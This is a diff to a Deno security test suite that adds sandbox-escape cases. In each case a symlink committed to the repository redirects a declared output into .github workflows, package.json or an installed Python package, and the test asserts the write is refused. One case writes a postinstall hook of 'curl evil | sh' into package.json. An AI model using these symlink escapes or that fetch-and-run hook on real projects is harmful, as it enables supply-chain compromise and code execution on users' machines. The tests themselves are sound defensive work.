@@ -594,4 +594,83 @@ printf '{"status":"ok","artifacts":["json.py"],"output":{"breached":false,"detai
   hostUnchanged: hostPythonImportsNothing,
 });
 
-Deno.test(escapeSuite("copy-out and the host", { atLeast: { sandbox: 35, noSandbox: 6 } }));
+// Outputs named through a link the repository committed: the user names `out/` or `report.json`,
+// the link makes it `.github/`, `package.json` or an installed package, names copy-out moves only
+// where the user declared them. Refused before anything runs: an output is written only where its
+// path names (an attacker's review; each attack below wrote its file before).
+const LINKED_OUTPUTS: {
+  name: string;
+  output: string;
+  plant: () => Promise<void>;
+  script: string;
+  unchanged: () => Promise<void>;
+}[] = [
+  {
+    name: "an output folder named through a repository's link out -> .github",
+    output: "out/",
+    plant: async () => {
+      await Deno.mkdir(join(PROJECT, ".github"), { recursive: true });
+      await Deno.symlink(".github", join(PROJECT, "out"));
+    },
+    script: `os.makedirs(".github/workflows", exist_ok=True)
+open(".github/workflows/ci.yml", "w").write("on: push\\n")
+artifacts = [".github/workflows/ci.yml"]`,
+    unchanged: async () => {
+      const planted = await exists(join(PROJECT, ".github", "workflows", "ci.yml"));
+      await Deno.remove(join(PROJECT, "out"));
+      await Deno.remove(join(PROJECT, ".github"), { recursive: true });
+      assert.equal(planted, false, "BREACH: .github/workflows/ci.yml was written");
+    },
+  },
+  {
+    name: "a top-level output file named through a repository's link report.json -> package.json",
+    output: "report.json",
+    plant: async () => {
+      await Deno.writeTextFile(join(PROJECT, "package.json"), '{"name": "victim"}\n');
+      await Deno.symlink("package.json", join(PROJECT, "report.json"));
+    },
+    script: `open("package.json", "w").write('{"scripts": {"postinstall": "curl evil | sh"}}\\n')
+artifacts = ["package.json"]`,
+    unchanged: async () => {
+      const text = await Deno.readTextFile(join(PROJECT, "package.json"));
+      await Deno.remove(join(PROJECT, "report.json"));
+      await Deno.remove(join(PROJECT, "package.json"));
+      assert.equal(text, '{"name": "victim"}\n', `BREACH: package.json was overwritten: ${text}`);
+    },
+  },
+  {
+    name: "an output folder named through a link into the project's installed packages",
+    output: "out2/",
+    plant: async () => {
+      const packages = join(PROJECT, ".venv", "lib", "python3", "site-packages");
+      await Deno.mkdir(join(packages, "requests"), { recursive: true });
+      await Deno.writeTextFile(join(packages, "requests", "__init__.py"), "# real\n");
+      await Deno.symlink(".venv/lib/python3/site-packages", join(PROJECT, "out2"));
+    },
+    script: `target = ".venv/lib/python3/site-packages/requests/__init__.py"
+os.makedirs(os.path.dirname(target), exist_ok=True)
+open(target, "w").write("import os\\n")
+artifacts = [target]`,
+    unchanged: async () => {
+      const packages = join(PROJECT, ".venv", "lib", "python3", "site-packages");
+      const text = await Deno.readTextFile(join(packages, "requests", "__init__.py"));
+      await Deno.remove(join(PROJECT, "out2"));
+      await Deno.remove(join(PROJECT, ".venv"), { recursive: true });
+      assert.equal(text, "# real\n", "BREACH: the project's installed requests was replaced");
+    },
+  },
+];
+for (const linked of LINKED_OUTPUTS) {
+  attack({
+    name: linked.name,
+    language: "python",
+    context: { output: linked.output },
+    before: linked.plant,
+    script: py(`${linked.script}
+detail = "wrote"`),
+    blockedBy: [ValidationError],
+    hostUnchanged: linked.unchanged,
+  });
+}
+
+Deno.test(escapeSuite("copy-out and the host", { atLeast: { sandbox: 38, noSandbox: 6 } }));
